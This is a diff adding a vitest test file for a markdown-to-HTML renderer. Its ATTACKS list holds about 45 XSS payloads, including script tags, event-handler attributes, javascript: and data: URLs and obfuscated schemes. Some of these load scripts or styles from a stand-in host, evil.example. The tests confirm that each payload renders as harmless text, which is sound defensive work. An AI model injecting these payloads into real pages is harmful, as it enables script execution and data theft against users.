@@ -1,0 +1,123 @@
+import { describe, expect, it } from 'vitest';
+import { remark } from '../../src/document/markdown.ts';
+import { renderDocumentBody } from '../../src/render/html/document-body.ts';
+import { safeLink } from '../../src/render/markup.ts';
+
+const parse = remark();
+const resolve = {
+  link: (url: string) => (/^(?:https?|mailto):/.test(url) ? safeLink(url) : null),
+  image: (url: string) => (url === 'graph.png' ? 'images/1.png' : null),
+};
+const render = (markdown: string): string =>
+  renderDocumentBody(parse(markdown), { resolve, topHeading: 2 })
+    .map(({ markup }) => markup)
+    .join('\n');
+
+/** Each with a part of it that a reader still sees. */
+const ATTACKS: readonly (readonly [string, string])[] = [
+  ['<script>alert(1)</script>', 'alert(1)'],
+  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'evil.example'],
+  ['text <script>alert(1)</script> text', 'alert(1)'],
+  ['<img src=x onerror=alert(1)>', 'onerror'],
+  ['<img src="javascript:alert(1)">', 'javascript:'],
+  ['<svg onload=alert(1)></svg>', 'onload'],
+  ['<svg><script>alert(1)</script></svg>', 'alert(1)'],
+  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'xlink:href'],
+  ['<iframe src="javascript:alert(1)"></iframe>', 'iframe'],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'srcdoc'],
+  ['<object data="data:text/html;base64,PHNjcmlwdD4="></object>', 'object'],
+  ['<embed src="data:image/svg+xml,x">', 'embed'],
+  ['<base href="https://evil.example/">', 'base'],
+  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'refresh'],
+  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'stylesheet'],
+  ['<style>@import "https://evil.example/x.css"</style>', '@import'],
+  ['<body onload=alert(1)>', 'onload'],
+  ['<a href="javascript:alert(1)">go</a>', 'go'],
+  ['<a href="https://x.example" onclick="alert(1)">go</a>', 'onclick'],
+  ['<details open ontoggle=alert(1)>x</details>', 'ontoggle'],
+  ['<form action="https://evil.example"><button>x</button></form>', 'action'],
+  ['<input autofocus onfocus=alert(1)>', 'onfocus'],
+  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'math'],
+  ['<template><script>alert(1)</script></template>', 'template'],
+  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'noscript'],
+  ['<p style="background:url(https://evil.example)">x</p>', 'style='],
+  ['[go](javascript:alert(1))', 'go'],
+  ['[go](JaVaScRiPt:alert(1))', 'go'],
+  ['[go](java\tscript:alert(1))', 'go'],
+  ['[go](&#106;avascript:alert(1))', 'go'],
+  ['[go](vbscript:msgbox(1))', 'go'],
+  ['[go](data:text/html,<script>alert(1)</script>)', 'go'],
+  ['[go][r]\n\n[r]: javascript:alert(1)', 'go'],
+  ['<javascript:alert(1)>', 'javascript:alert(1)'],
+  ['![x](javascript:alert(1))', 'javascript:alert(1)'],
+  ['![x](data:image/svg+xml;base64,PHN2Zz4=)', 'data:image/svg+xml'],
+  ['![x](https://evil.example/pixel.png)', 'evil.example'],
+  ['![x](x"onerror="alert(1))', 'onerror'],
+  ['[x](https://e.example "a\\" onmouseover=\\"alert(1)")', 'x'],
+  ['`<script>alert(1)</script>`', 'alert(1)'],
+  ['```html\n<script>alert(1)</script>\n```', 'alert(1)'],
+  ['| <img src=x onerror=alert(1)> |\n| --- |\n| </table><script>alert(1)</script> |', 'onerror'],
+  ['# <img src=x onerror=alert(1)>', 'onerror'],
+  ['&lt;script&gt;alert(1)&lt;/script&gt;', 'alert(1)'],
+  ['<!--><script>alert(1)</script>-->', 'alert'],
+];
+
+/** What a browser would act on: elements and attributes, with everything that is escaped or between tags taken away. */
+function tagsIn(markup: string): string[] {
+  return markup.match(/<[^>]*>/g) ?? [];
+}
+
+describe('a document in a page', () => {
+  it.each(ATTACKS)('%s is text', (markdown, seen) => {
+    const markup = render(markdown);
+    for (const tag of tagsIn(markup)) {
+      expect(tag).toMatch(
+        /^<\/?(?:p|a|h[1-6]|ul|ol|li|table|thead|tbody|tr|th|td|div|pre|code|img|em|strong|br|span)\b/,
+      );
+      expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(/\s(?:on\w+|style|srcdoc|action|formaction)\s*=/i);
+      expect(tag).not.toMatch(/(?:href|src)="(?!https?:|mailto:|images\/|#doc-)/i);
+    }
+    if (!markdown.startsWith('<!--')) expect(markup).toContain(seen.replaceAll('<', '&#x3C;'));
+  });
+
+  it('keeps a line break, and leaves out what was written for whoever edits the file', () => {
+    expect(render('| a |\n| - |\n| one<br>two<br/>three |')).toContain('one<br>two<br>three');
+    expect(render('before <!-- TEMPLATE: say what happened --> after')).toBe('<p>before  after</p>');
+    expect(render('<!-- one\n\ntwo -->\n\nText')).toBe('<p>Text</p>');
+  });
+
+  it('shows images that are there, and says of others what they were', () => {
+    expect(render('![The queue](graph.png)')).toBe('<p><img src="images/1.png" alt="The queue"></p>');
+    expect(render('![The queue](gone.png)')).toBe('<p>[image: The queue (gone.png)]</p>');
+  });
+
+  it('says where a link led that cannot be followed', () => {
+    expect(render('[the runbook](../runbooks/pool.md)')).toBe('<p>the runbook (../runbooks/pool.md)</p>');
+  });
+
+  it('puts headings in order under that of the page', () => {
+    const tags = renderDocumentBody(parse('# A\n\n### B\n\n###### C\n\n# D\n\n## E'), {
+      resolve,
+      topHeading: 2,
+    });
+    expect(tags.map(({ tag }) => tag)).toEqual(['h2', 'h3', 'h4', 'h2', 'h3']);
+  });
+
+  it('tells which line a block begins on, and names rows as it is asked to', () => {
+    const blocks = renderDocumentBody(parse('One\n\n| a |\n| - |\n| b |\n'), {
+      resolve,
+      topHeading: 2,
+      anchors: new Map([[5, 'row-1']]),
+    });
+    expect(blocks.map(({ line }) => line)).toEqual([1, 3]);
+    expect(blocks[1]?.markup).toContain('<tr id="row-1">');
+    expect(blocks[1]?.markup).toContain('tabindex="0"');
+  });
+
+  it('keeps footnotes together with their signs', () => {
+    const markup = render('Text[^1].\n\n[^1]: The note.');
+    const href = /href="#(doc-fn-1)"/.exec(markup)?.[1];
+    expect(href).toBe('doc-fn-1');
+    expect(markup).toContain(`id="${href}"`);
+  });
+});
